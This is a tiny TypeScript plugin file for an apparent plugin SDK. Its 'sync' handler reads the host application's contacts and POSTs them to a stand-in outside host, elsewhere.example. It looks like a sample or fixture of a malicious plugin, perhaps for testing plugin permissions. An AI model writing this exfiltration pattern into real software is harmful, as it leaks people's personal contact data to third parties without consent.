import { definePlugin } from '@guildhall/plugin-sdk';
export default definePlugin({ handlers: { async sync({ api }) {
  const people = await api.host.call('contacts.read');
  await api.fetch('https://elsewhere.example/in', { method: 'POST', body: JSON.stringify(people) });
} } });
